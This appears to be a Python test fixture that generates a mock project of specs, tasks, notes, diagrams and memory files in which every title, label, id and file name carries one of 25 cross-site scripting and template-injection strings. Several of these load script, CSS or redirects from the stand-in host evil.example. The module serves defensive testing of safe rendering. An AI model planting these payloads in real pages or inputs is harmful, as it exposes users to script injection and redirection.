"""A source whose texts attack whoever shows them in a browser: 200 titles, labels, links, ids and names of files."""

import json

MARK = "owned"  # in every attack that would run something
PRODUCT = "5040401"  # what {{ 2245*2245 }} is, evaluated

ATTACKS = (
    "<script>owned()</script>",
    "</title><script>owned()</script>",
    "</pre></code></td></tr></table><script src=//evil.example/owned.js></script>",
    "--><script>owned()</script><!--",
    "]]><script>owned()</script>",
    "<img src=x onerror=owned()>",
    "<svg onload=owned()><animate onbegin=owned() attributeName=x>",
    "<style>@import '//evil.example/owned.css'</style>",
    "<base href=//evil.example/><a href=owned>",
    "<meta http-equiv=refresh content='0;url=//evil.example/owned'>",
    "<iframe srcdoc='<script>owned()</script>'></iframe>",
    "<form action=//evil.example/owned><button>",
    '" onmouseover="owned()" x="',
    "' onfocus='owned()' autofocus x='",
    '"><xowned a="',
    "javascript:owned()",
    "java\tscript:owned()",
    "data:text/html,<script>owned()</script>",
    "vbscript:owned()",
    "{{ 2245*2245 }} {% for x in y %}{{ url.__globals__ }}",
    "${2245*2245} #{2245*2245} <%= 2245*2245 %>",
    "\x1b[31mowned\x07 \u202egnp.owned\u2066 \u200b\ufeff\u2028",
    "&lt;script&gt;owned()&lt;/script&gt; &#60;xowned&#62; &amp;",
    "</text></a></g></svg><foreignObject><xowned></xowned></foreignObject>",
    "owned " + "<b>" * 300 + "x" * 4_000,
)
NOW = "2026-01-01T00:00:00Z"
KINDS = 8  # of objects, each with all attacks


def quoted(text: str) -> str:
    """A text as a scalar of YAML or JSON."""
    return json.dumps(text, ensure_ascii=False)


def on_a_line(text: str) -> str:
    """A text without what would end its line."""
    return text.replace("\x1b", "").replace("\u2028", " ")


def hostile_files() -> dict[str, str]:
    """The files of the source by their paths."""
    files = {"requirements/spec.md": "# Attacks\n", ".elspais.toml": '[directories]\nspec = "requirements"\n'}
    facts = [
        {"type": "memory", "format": "memory-jsonl", "version": 1, "project": ATTACKS[0], "default_branch": "main"}
    ]
    flow = ["flowchart TD"]
    tasks = ["# Tasks", ""]
    world = ["---", "world:", "  name: attacks", "  start: yard", "---", "", "# Yard", ""]
    for at, attack in enumerate(ATTACKS):
        line = on_a_line(attack)
        label = line.replace('"', "#quot;")
        said = quoted(attack)
        files["requirements/spec.md"] += (
            f"\n## REQ-d{at + 1:05}: {line}\n\n**Level**: DEV | **Status**: {line[:40]}\n\nA. {line}\n"
        )
        files[f"backlog/tasks/task-{at}.md"] = (
            f"---\nid: TASK-{at}\ntitle: {said}\nstatus: {quoted(attack[:60])}\nassignee: [{said}]\n"
            f"labels: [{said}]\ndependencies: [TASK-{at + 1}, {quoted(attack[:80])}]\n---\n\n{attack}\n"
        )
        files[f"docs/adr/{at + 1:04}-attack.md"] = (
            f"# {line}\n\nDate: 2025-01-{at % 28 + 1:02}\n\n## Status\n\nAccepted\n\n## Context\n\n"
            f"[{line}]({line}) TASK-{at}\n"
        )
        files[f"notes/note-{at}.md"] = (
            f"---\ntags: [{said}]\n---\n# {line}\n\n[[{line}]] [a](javascript:owned()) {attack}\n"
        )
        facts.append({"type": "fact", "id": attack, "branch": "main", "text": attack, "category": attack, "at": NOW})
        flow.append(f'  n{at}["{label}"] -->|"{label[:90]}"| n{at + 1}')
        tasks.append(f"- [ ] T{at + 1:03} {line}")
        world.append(f"-> way{at}: {line[:60]}")
    files["attacks.mmd"] = "\n".join(flow) + "\n"
    files["specs/001-x/tasks.md"] = "\n".join(tasks) + "\n"
    files["attacks.urd.md"] = "\n".join(world) + "\n"
    files["memory.jsonl"] = "".join(f"{json.dumps(one)}\n" for one in facts)
    files["notes/<script>owned()<#script>.md"] = "# A name of a file\n"
    files["notes/' onclick='owned().md"] = '# Another\n\n[x](<"><script>owned()>)\n'
    files["nereid-session.meta.json"] = json.dumps(
        {
            "session_id": ATTACKS[12],
            "diagrams": [{"diagram_id": "attacks", "name": ATTACKS[0], "kind": "flowchart", "mmd_path": "attacks.mmd"}],
            "walkthrough_ids": ["w"],
        }
    )
    files["walkthroughs/w.wt.json"] = json.dumps(
        {
            "walkthrough_id": "w",
            "title": ATTACKS[1],
            "nodes": [
                {"node_id": f"s{at}", "title": one, "body_md": one, "refs": [one, "d:attacks"]}
                for at, one in enumerate(ATTACKS)
            ],
            "edges": [],
        }
    )
    return files
